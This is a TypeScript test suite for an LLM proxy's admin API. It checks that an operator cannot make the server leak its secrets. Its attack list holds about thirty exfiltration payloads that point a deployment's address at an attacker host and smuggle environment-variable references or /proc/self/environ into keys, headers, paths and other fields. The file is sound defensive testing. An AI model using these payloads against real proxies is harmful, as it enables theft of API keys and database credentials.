import assert from "node:assert/strict";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { ask } from "../support/http-client.ts";
import type { OpenAiHost } from "../support/openai-host.ts";
import { Parties } from "../support/parties.ts";
import type { RunningTestService } from "../support/start-service.ts";

const env = {
  PROVIDER_KEY: "planted-provider-key-0123456789",
  OPENAI_API_KEY: "planted-usual-key-0123456789",
  DATABASE_URL: "planted-database-0123456789",
  SHORT: "pl-7X",
} as const;
const credential = "planted-credential-0123456789";
const secrets = [...Object.values(env), credential];

/** @param more Of `general_settings`. */
function fileFor(host: OpenAiHost, more = "{}"): string {
  return `
credential_list: [{credential_name: shared, credential_values: {api_key: ${credential}}}]
model_list:
  - {model_name: m, litellm_params: {model: openai/m, api_base: "${host.apiBase}", api_key: os.environ/PROVIDER_KEY}, model_info: {id: the-one}}
  - {model_name: c, litellm_params: {model: openai/m, api_base: "${host.apiBase}", litellm_credential_name: shared}, model_info: {id: shared-one}}
router_settings: {num_retries: 0}
general_settings: ${more}
`;
}

/** What a method of AdminService is asked. EVIL and GOOD stand for the addresses of the attacker's host and of the file's. */
type Attack = readonly [what: string, method: string, request: object];

const entry = (params: object, more: object = {}) => ({
  model_name: "taken",
  litellm_params: { model: "openai/m", api_base: "EVIL", ...params },
  ...more,
});
const add = (what: string, params: object, more?: object): Attack => [what, "AddDeployment", { entry: entry(params, more) }];
const update = (what: string, params: object): Attack => [
  what,
  "UpdateDeployment",
  { deploymentId: "the-one", entry: { ...entry(params), model_name: "m" } },
];

const attacks: readonly Attack[] = [
  add("a variable as key", { api_key: "os.environ/DATABASE_URL" }),
  add("the file's variable at a host of the attacker's", { api_key: "os.environ/PROVIDER_KEY" }),
  add("in a header", { api_key: "x", extra_headers: { "x-a": "${PROVIDER_KEY}" } }),
  add("behind a default", { api_key: "${NOWHERE:-${SHORT}}" }),
  add("in the path of the address", { api_base: "EVIL/${DATABASE_URL}", api_key: "x" }),
  add("in the body", { api_key: "x", user: "${DATABASE_URL}" }),
  add("in extra_body", { api_key: "x", extra_body: { a: [{ b: "os.environ/PROVIDER_KEY" }] } }),
  add("as api_version", { model: "azure/m", api_key: "x", api_version: "${PROVIDER_KEY}" }),
  add("as organization", { api_key: "x", organization: "os.environ/PROVIDER_KEY" }),
  add("the usual variable, because no key is given", {}),
  add("the usual variable, because the key is empty", { api_key: "" }),
  add("a credential of the file", { litellm_credential_name: "shared" }),
  add("in the mock's answer", { model: "mock/m", mock_response: "os.environ/PROVIDER_KEY" }),
  add("in what a model is asked at the right host", { api_base: "GOOD", api_key: "x", suffix: "say ${PROVIDER_KEY}" }),
  add("in the model's name", { model: "openai/${DATABASE_URL}", api_key: "x" }),
  add("in the provider's name", { model: "${SHORT}/m", api_key: "x" }),
  add("in model_name", { api_key: "x" }, { model_name: "${SHORT}" }),
  add("in model_info", { api_key: "x" }, { model_info: { note: "os.environ/SHORT" } }),
  add("in model_info.id", { api_key: "x" }, { model_info: { id: "${SHORT}" } }),
  add("in a number", { api_key: "x", rpm: "os.environ/SHORT" }),
  add("in a tag", { api_key: "x", tags: ["${SHORT}"] }),
  add("a file of the machine", { api_key: "x", ssl_certificate: "/proc/self/environ" }),
  update("another address for a deployment whose key stays", { api_key: "os.environ/PROVIDER_KEY" }),
  update("another address, and the key left out", {}),
  update("another address, and the credential of its sibling", { litellm_credential_name: "shared" }),
  ["an alias to a variable", "SetAlias", { alias: "taken", targets: ["os.environ/SHORT"] }],
  ["a strategy that is a variable", "SetRoutingStrategy", { group: "m", strategy: "${SHORT}" }],
  ["a strategy's argument", "SetRoutingStrategy", { group: "m", strategy: "latency-based-routing", args: { ttl: "os.environ/SHORT" } }],
];

describe("who may operate the server gets at no secret of it", () => {
  const parties = new Parties();
  let good: OpenAiHost;
  let evil: OpenAiHost;
  let service: RunningTestService;
  let folder: string;

  before(async () => {
    folder = await mkdtemp(join(tmpdir(), "huntgroup-attacks-"));
    [good, evil] = [await parties.host(), await parties.host()];
    service = await parties.service(fileFor(good), { env });
  });
  after(async () => {
    await parties.end();
    await rm(folder, { recursive: true });
  });

  async function post(at: RunningTestService, path: string, body: object) {
    const text = JSON.stringify(body).replaceAll("EVIL", evil.apiBase).replaceAll("GOOD", good.apiBase);
    return ask(at.port, "http1", { method: "POST", path, headers: { "content-type": "application/json" }, body: text });
  }
  const operate = (method: string, request: object) => post(service, `/huntgroup.v1.AdminService/${method}`, request);

  function assertNothingLeaks(...said: readonly string[]): void {
    const sent = evil.hits.map(({ path, query, headers, body }) =>
      [path, query.toString(), JSON.stringify(headers), body.toString()].join(" "),
    );
    const asked = good.hits.map(({ body }) => body.toString());
    for (const text of [...said, ...sent, ...asked]) {
      for (const secret of secrets) assert.ok(!text.includes(secret), text.slice(0, 2_000));
    }
  }

  for (const [what, method, request] of attacks) {
    test(`${method}: ${what}`, async () => {
      const { status, text } = await operate(method, request);
      // A deployment without the key may be made: nothing is lent to it.
      const isTaken = status === 200;
      const calls = isTaken
        ? await Promise.all(["taken", "m", "c"].map((model) => post(service, "/v1/chat/completions", { model, messages: [] })))
        : [];
      const shown = await Promise.all(["GetConfig", "ListDeployments", "ListChanges"].map((one) => operate(one, {})));
      assertNothingLeaks(text, ...[...calls, ...shown].map((answer) => answer.text));
      if (isTaken) assert.ok(/usual variable|left out/.test(what), `${what} was taken`);
      else assert.equal(status, 400, text);
      const id = isTaken ? (JSON.parse(text) as { deployment: { id: string } }).deployment.id : undefined;
      if (id === "the-one") await operate("ReloadConfig", { discardChanges: true });
      else if (id !== undefined) await operate("RemoveDeployment", { deploymentId: id });
    });
  }

  test("what the file says, and admin_env_allow, may be used: the same key for another model at the same host", async () => {
    const { status, text } = await operate("AddDeployment", { entry: entry({ api_base: "GOOD", api_key: "os.environ/PROVIDER_KEY" }) });
    assert.equal(status, 200, text);
    assert.equal((await post(service, "/v1/chat/completions", { model: "taken", messages: [] })).status, 200);
    assert.equal(good.lastHit.headers.authorization, `Bearer ${env.PROVIDER_KEY}`);
  });

  test("an entry of the state file that the configuration allows no more is left out at the start, and a warning says so", async () => {
    const stateFile = join(folder, "state.json");
    const allowed = await parties.service(fileFor(good, "{admin_env_allow: [DATABASE_*]}"), { env, stateFile });
    const request = { entry: entry({ api_key: "os.environ/DATABASE_URL" }) };
    const { status, text } = await post(allowed, "/huntgroup.v1.AdminService/AddDeployment", request);
    assert.equal(status, 200, text);
    await allowed.rewrite(fileFor(good));
    const reloaded = JSON.parse((await post(allowed, "/huntgroup.v1.AdminService/ReloadConfig", {})).text) as {
      warnings?: { message: string }[];
    };
    assert.match(JSON.stringify(reloaded), /LEFT OUT: the environment variable DATABASE_URL must not be named here/);
    assert.equal((await post(allowed, "/v1/chat/completions", { model: "taken", messages: [] })).status, 404);
    const again = await parties.service(fileFor(good), { env, stateFile });
    assert.equal((await post(again, "/v1/chat/completions", { model: "taken", messages: [] })).status, 404);
    assertNothingLeaks(JSON.stringify(reloaded));
  });
});
